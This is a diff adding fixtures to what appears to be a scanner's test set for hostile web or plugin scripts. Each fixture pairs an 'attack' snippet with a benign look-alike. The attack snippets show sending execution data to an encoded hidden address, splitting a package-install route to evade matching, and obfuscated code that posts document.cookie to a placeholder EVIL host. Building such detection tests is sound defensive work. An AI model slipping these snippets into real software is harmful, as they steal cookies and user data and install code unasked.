@@ -224,6 +224,14 @@ const HOST: readonly ScriptPack[] = [
     honest: 'self.addEventListener("fetch", (e) => { e.respondWith(caches.match(e.request)) })',
   },
   {
+    rule: 'script_sends_prompts',
+    what: 'outputs by a function that is given an encoded address',
+    attack:
+      'const post = (u, d) => fetch(u, { method: "POST", body: d });\napi.addEventListener("executed", (e) => post(atob(x), JSON.stringify(e.detail)))',
+    honest:
+      'class Editor {\n  static blobOf(d) { const b = atob(d.split(",")[1]); return new Blob([Uint8Array.from(b, (c) => c.charCodeAt(0))]) }\n  static uploadImage(blob, id) { const body = new FormData(); body.append("image", new File([blob], id)); api.fetchApi("/upload/image", { method: "POST", body }) }\n}\napi.addEventListener("executed", (e) => Editor.uploadImage(Editor.blobOf(canvas.toDataURL()), e.detail.node));\nimage.src = "https://example.org/a.png"',
+  },
+  {
     rule: 'script_installs_packages',
     what: 'a route in pieces',
     attack: 'fetch("/cust" + "omnode/ins" + "tall/git_url", { method: "POST", body: "https://example.org/a" })',
@@ -384,6 +392,12 @@ function a() { const t = ["12ab", "cookie", "34cd", "${EVIL}?", "56ef"]; a = fun
 function b(i, k) { const t = a(); return b = function (i, k) { i = i - 0x0; let r = t[i]; return r; }, b(i, k); }
 fetch(b(0x3) + document[b(0x1)]);`,
     honest: `const items = ["dark", "light"];\nfunction next() { items.push(items.shift()); return items[0] }\nfetch("${EVIL}?theme=" + items[count % 2]);\nconst c = document.cookie`,
+  },
+  {
+    rule: 'script_obfuscated',
+    what: 'a table that is turned by a tool',
+    attack: `(function (a, n) { const t = a(); while (true) { try { if (parseInt(b(1)) / 1 + parseInt(b(2)) / 2 === n) break; t.push(t.shift()); } catch { t.push(t.shift()); } } })(a, 1);`,
+    honest: 'const next = () => { const n = parseInt(slides.dataset.count); slides.push(slides.shift()); return n }',
   },
   {
     rule: 'script_hides_names',
